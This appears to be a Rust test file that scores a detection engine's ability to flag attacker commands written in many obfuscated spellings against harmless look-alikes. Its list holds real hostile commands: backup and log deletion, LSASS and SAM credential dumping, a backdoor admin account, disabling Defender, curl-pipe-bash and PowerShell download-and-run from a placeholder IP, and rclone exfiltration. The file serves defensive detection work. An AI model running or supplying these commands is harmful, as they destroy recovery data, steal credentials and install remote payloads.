//! Watched commands in many spellings among commands that only look like them.

use event::Field;

use super::{Level, Random, Score, Sheet};
use crate::testing::{batch, signals};

const FIELDS: [Field; 4] = [Field::Time, Field::SrcHost, Field::User, Field::Command];
const EACH: usize = 10;

const WATCHED: &[&str] = &[
    "vssadmin delete shadows /all /quiet",
    "wmic shadowcopy delete",
    "wbadmin delete catalog -quiet",
    "bcdedit /set {default} recoveryenabled no",
    "wevtutil cl Security",
    "powershell Clear-EventLog -LogName Security",
    "rm -rf /var/log/audit/audit.log",
    "journalctl --vacuum-time=1s",
    "mimikatz.exe privilege::debug sekurlsa::logonpasswords exit",
    "procdump64.exe -accepteula -ma lsass.exe c:\\temp\\l.dmp",
    "rundll32 C:\\windows\\system32\\comsvcs.dll MiniDump 624 C:\\l.dmp full",
    "reg save HKLM\\SAM c:\\temp\\sam.hiv",
    "ntdsutil \"ac i ntds\" \"ifm\" \"create full c:\\temp\"",
    "net user helper P4ss /add",
    "net localgroup administrators helper /add",
    "Set-MpPreference -DisableRealtimeMonitoring $true",
    "certutil -urlcache -split -f http://203.0.113.9/a.exe a.exe",
    "powershell IEX(New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')",
    "bitsadmin /transfer j http://203.0.113.9/a.exe c:\\a.exe",
    "curl -s http://203.0.113.9/x.sh | bash",
    "schtasks /create /tn u /tr c:\\users\\public\\u.exe /sc minute",
    "psexec \\\\FS-01 -s cmd.exe",
    "mysqldump --all-databases -u root",
    "rar a -hpSecret c:\\temp\\out.rar c:\\share",
    "rclone copy c:\\share remote:drop",
];

const HARMLESS: &[&str] = &[
    "vssadmin list shadows",
    "wmic os get caption",
    "wbadmin get versions",
    "bcdedit /enum",
    "wevtutil el",
    "powershell Get-EventLog -LogName System -Newest 20",
    "tail -f /var/log/audit/audit.log",
    "rm -rf /tmp/build",
    "journalctl -u sshd --since today",
    "procdump64.exe -ma w3wp.exe",
    "rundll32 shell32.dll Control_RunDLL",
    "reg query HKLM\\Software",
    "net user helper",
    "net localgroup administrators",
    "Get-MpPreference",
    "certutil -verify cert.cer",
    "powershell -File C:\\scripts\\report.ps1",
    "powershell -ExecutionPolicy Bypass -File C:\\scripts\\report.ps1",
    "curl -s https://intranet.example/health",
    "schtasks /query",
    "mysqldump --version",
    "tar czf /backup/etc.tgz /etc",
    "rar l out.rar",
    "rclone version",
    "history 20",
];

/// How a command is spelt.
type Spelling = fn(&mut Random, &str) -> String;

pub(super) fn sheet() -> Sheet {
    let level = |seed, name, spelling, floor| Level { name, score: run(seed, spelling), floor };
    Sheet {
        title: "Watched commands",
        about: "250 commands of attackers, ten times 25, and as many that use the same programs for \
                something else, each on a host of its own. Floors: precision 0.95, recall 0.98 \
                whatever the case, the folder, the quotes and the spaces. Variables and words put \
                together at run time are not seen through. Whoever does the same by right, for \
                example whoever copies a database, is told as well. The pack was written with \
                these commands in sight, so the figures show that spelling hides nothing, not that \
                the list is complete.",
        levels: vec![
            level(1, "as documented", |_, command| command.to_owned(), [0.95, 0.98]),
            level(2, "any case, doubled spaces", mixed, [0.95, 0.98]),
            level(3, "quotes and carets", quoted, [0.95, 0.98]),
            level(
                4,
                "behind cmd /c or sh -c",
                |_, command| format!("cmd.exe /c {command}"),
                [0.95, 0.98],
            ),
            level(5, "encoded for PowerShell", encoded, [0.95, 0.98]),
            level(6, "parts in variables", variables, [0.95, 0.0]),
        ],
    }
}

fn run(seed: u64, spelling: Spelling) -> Score {
    let mut random = Random(seed);
    let mut rows = Vec::new();
    for n in 0..EACH * WATCHED.len() {
        let command = spelling(&mut random, WATCHED[n % WATCHED.len()]);
        rows.push(format!("{n},BAD-{n},ann,{command}"));
    }
    for n in 0..EACH * HARMLESS.len() {
        // Whoever does no harm does not encode.
        let harmless = HARMLESS[n % HARMLESS.len()];
        rows.push(format!("{n},OK-{n},ann,{}", mixed(&mut random, harmless)));
    }
    let found = signals(&[batch("commands.csv", &FIELDS, &rows)], Vec::new());
    let mut score = Score::default();
    for (start, count) in [("BAD", WATCHED.len()), ("OK", HARMLESS.len())] {
        for n in 0..EACH * count {
            let host = format!("{start}-{n}");
            let told = found.iter().any(|signal| {
                signal.kind == model::SignalKind::WatchedCommand && signal.entities[0].name == host
            });
            score.count(start == "BAD", told);
        }
    }
    score
}

fn mixed(random: &mut Random, command: &str) -> String {
    let mut out = String::new();
    for c in command.chars() {
        out.push(if random.chance(0.5) { c.to_ascii_uppercase() } else { c });
        if c == ' ' && random.chance(0.3) {
            out.push(' ');
        }
    }
    out
}

fn quoted(random: &mut Random, command: &str) -> String {
    let mut out = String::new();
    for c in command.chars() {
        if c.is_alphanumeric() && random.chance(0.3) {
            out.push_str(random.pick::<&str>(&["^", "\"\"", "''"]));
        }
        out.push(c);
    }
    out
}

fn encoded(random: &mut Random, command: &str) -> String {
    let flag = *random.pick(&["-enc", "-EncodedCommand", "-e", "-ec"]);
    let text: String = command.bytes().map(|byte| format!("{byte:02X}")).collect();
    format!("powershell.exe -nop -w hidden {flag} {text}")
}

/// `set a=vss& call %a%admin …`
fn variables(random: &mut Random, command: &str) -> String {
    let cut = 2 + random.below(2);
    format!("cmd /v /c set a={}& call %a%{}", &command[..cut], command[cut..].replace(' ', " %z%"))
}
